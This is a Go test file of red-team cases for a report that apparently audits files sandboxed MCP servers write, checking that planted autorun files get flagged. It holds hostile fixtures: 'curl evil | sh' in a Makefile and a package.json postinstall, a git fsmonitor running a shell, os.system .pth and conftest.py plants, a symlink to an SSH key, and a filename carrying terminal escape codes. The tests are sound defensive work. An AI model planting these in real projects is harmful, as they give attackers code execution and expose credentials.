package writereport

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Red-team tests of the write report (#32). Each plays a server that
// wants what it wrote in its read-write grant to pass `mcpolicy check`
// (no pending flagged entry), or a careless setup that loses the
// evidence. A test that fails shows a hole.

// TestRedteamPruneDropsUnreviewedPlant: the project keeps its last Keep
// sessions, pruned by count only. A plant of an early session that
// nobody accepted drops out of the report (and check passes) once Keep
// more launches happened in the project: every client start launches
// every server of the project, so a hundred come quickly.
func TestRedteamPruneDropsUnreviewedPlant(t *testing.T) {
	root, state, rec := session(t)
	write(t, filepath.Join(root, "data", "evil.pth"), "import os; os.system('id')\n", 0o644)
	if err := MarkEnd(rec, time.Now()); err != nil {
		t.Fatal(err)
	}
	time.Sleep(time.Second + 2*Slack) // IDs sort by the second, then at random
	for i := 0; i < Keep; i++ {       // later, ordinary launches of the project's servers
		if _, err := Record(state, &Session{Project: root, Server: "other", Backend: "bwrap", Writable: []string{filepath.Join(root, "data")}}); err != nil {
			t.Fatal(err)
		}
	}
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		for _, e := range r.Pending() {
			if filepath.Base(e.Path) == "evil.pth" {
				return
			}
		}
	}
	if _, err := os.Stat(filepath.Join(root, "data", "evil.pth")); err != nil {
		t.Fatal(err)
	}
	t.Errorf("evil.pth, planted by a session never accepted and still there, is pending in none of the %d reports: pruning dropped its session", len(rs))
}

// TestRedteamUnflaggedAutorun: files a host tool runs by itself when the
// user works in the folder, none of the flagged kinds: a nested
// repository's config (core.fsmonitor runs on `git status` there, and
// editors run git in every repository they find), pytest's conftest.py
// (imported by every pytest run that collects below it), python's
// sitecustomize.py in a venv (run at every start of that python).
func TestRedteamUnflaggedAutorun(t *testing.T) {
	root, state, _ := session(t)
	d := filepath.Join(root, "data")
	write(t, filepath.Join(d, "vendored", ".git", "config"), "[core]\n\tfsmonitor = sh -c 'id >/tmp/pwned'\n", 0o644)
	write(t, filepath.Join(d, "vendored", ".git", "HEAD"), "ref: refs/heads/main\n", 0o644)
	write(t, filepath.Join(d, "tests", "conftest.py"), "import os; os.system('id')\n", 0o644)
	write(t, filepath.Join(d, ".venv", "lib", "python3.12", "site-packages", "sitecustomize.py"), "import os; os.system('id')\n", 0o644)
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	got := flagsOf(rs)
	for _, n := range []string{"config", "conftest.py", "sitecustomize.py"} {
		if _, ok := got[n]; !ok {
			t.Errorf("%s, planted in the session, is listed but not flagged: check passes (pending: %v)", n, got)
		}
	}
}

// TestRedteamGrantTopOutsideProject: a build file is flagged "below the
// top" because the project's top is fixed; a read-write grant outside
// the project has no fixed top, yet its top is exempt too: a Makefile or
// package.json created there passes check.
func TestRedteamGrantTopOutsideProject(t *testing.T) {
	base := t.TempDir()
	root, state, work := filepath.Join(base, "proj"), filepath.Join(base, "state"), filepath.Join(base, "home", "work")
	os.MkdirAll(root, 0o755)
	os.MkdirAll(work, 0o755)
	if _, err := Record(state, &Session{Project: root, Server: "s", Backend: "bwrap", Writable: []string{work}}); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(work, "Makefile"), "all:\n\tcurl evil | sh\n", 0o644)
	write(t, filepath.Join(work, "package.json"), `{"scripts":{"postinstall":"curl evil | sh"}}`, 0o644)
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	got := flagsOf(rs)
	for _, n := range []string{"Makefile", "package.json"} {
		if _, ok := got[n]; !ok {
			t.Errorf("%s created at the top of a grant outside the project (no fixed top there) is not flagged: %v", n, got)
		}
	}
}

// TestRedteamTrackedPathHides: a tracked path is left out whatever the
// server made of it: a setuid bit (git tracks only the exec bit: git
// status shows nothing) or a symlink in its place (git says
// "typechange", the report says nothing of where it points).
func TestRedteamTrackedPathHides(t *testing.T) {
	base := t.TempDir()
	root, state := filepath.Join(base, "proj"), filepath.Join(base, "state")
	write(t, filepath.Join(root, "data", "tool.sh"), "#!/bin/sh\n", 0o755)
	write(t, filepath.Join(root, "data", "conf.txt"), "x\n", 0o644)
	write(t, filepath.Join(root, ".git", "index"), string(indexOf("data/tool.sh", "data/conf.txt")), 0o644)
	time.Sleep(2 * Slack)
	if _, err := Record(state, &Session{Project: root, Server: "s", Backend: "bwrap", Writable: []string{filepath.Join(root, "data")}}); err != nil {
		t.Fatal(err)
	}
	// The server: setuid on a tracked script, a symlink for a tracked file.
	if err := os.Chmod(filepath.Join(root, "data", "tool.sh"), 0o4755); err != nil {
		t.Fatal(err)
	}
	os.Remove(filepath.Join(root, "data", "conf.txt"))
	if err := os.Symlink(filepath.Join(os.Getenv("HOME"), ".ssh", "id_ed25519"), filepath.Join(root, "data", "conf.txt")); err != nil {
		t.Fatal(err)
	}
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	got := flagsOf(rs)
	if f := got["tool.sh"]; !contains(f, FlagSetID) {
		t.Errorf("a tracked script made setuid in the session is not flagged (git status does not show setuid): %v", got)
	}
	if f := got["conf.txt"]; !contains(f, FlagSymlink) {
		t.Errorf("a tracked file replaced by a symlink is not flagged: %v", got)
	}
}

// TestRedteamGrantInsideState: the state folder inside a grant refuses
// the launch; a grant inside the state folder (a server given
// ~/.local/state/mcpolicy/sessions, or the whole of mcpolicy's state)
// can rewrite or remove every record, and is not refused.
func TestRedteamGrantInsideState(t *testing.T) {
	base := t.TempDir()
	state := filepath.Join(base, "state", "mcpolicy")
	_, err := Record(state, &Session{Project: filepath.Join(base, "p"), Writable: []string{filepath.Join(state, "sessions")}})
	var ie *InsideError
	if !errors.As(err, &ie) {
		t.Errorf("a read-write grant of %s/sessions is recorded into (err %v): the server can delete its own evidence, or forge a .accepted", state, err)
	}
}

// TestRedteamNamesEscaped holds: a planted name with a newline and ESC
// cannot forge a line of check's output or drive the terminal.
func TestRedteamNamesEscaped(t *testing.T) {
	root, state, _ := session(t)
	name := "x.pth\n  /etc/ok: file changed\x1b]52;c;aGk=\x07"
	write(t, filepath.Join(root, "data", name), "", 0o644)
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		for _, l := range append(r.Problems(), r.Details()...) {
			if strings.ContainsAny(l, "\n\x1b\x07") {
				t.Errorf("raw control character in %q", l)
			}
		}
	}
}

// TestRedteamRenameMovesCtime holds: a file made before the session and
// renamed into a flagged name during it is listed (rename moves the
// moved inode's ctime on ext4 and tmpfs).
func TestRedteamRenameMovesCtime(t *testing.T) {
	root, state, _ := session(t)
	d := filepath.Join(root, "data")
	if err := os.Rename(filepath.Join(d, "old.py"), filepath.Join(d, "evil.pth")); err != nil {
		t.Fatal(err)
	}
	rs, err := Reports(Options{State: state, Project: root})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := flagsOf(rs)["evil.pth"]; !ok {
		t.Errorf("an old file renamed to .pth in the session is not pending")
	}
}
